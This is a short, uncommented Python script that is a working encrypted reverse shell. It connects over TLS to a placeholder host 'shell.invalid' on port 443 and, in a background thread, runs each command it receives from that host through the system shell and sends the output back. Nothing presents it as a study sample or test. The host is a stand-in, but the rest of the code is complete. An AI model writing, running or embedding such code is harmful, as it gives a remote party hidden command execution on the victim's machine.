import socket, ssl, subprocess, threading
def w():
    s = ssl.wrap_socket(socket.create_connection(("shell.invalid", 443)))
    while 1:
        s.write(subprocess.getoutput(s.read(4096).decode()).encode())
threading.Thread(target=w).start()
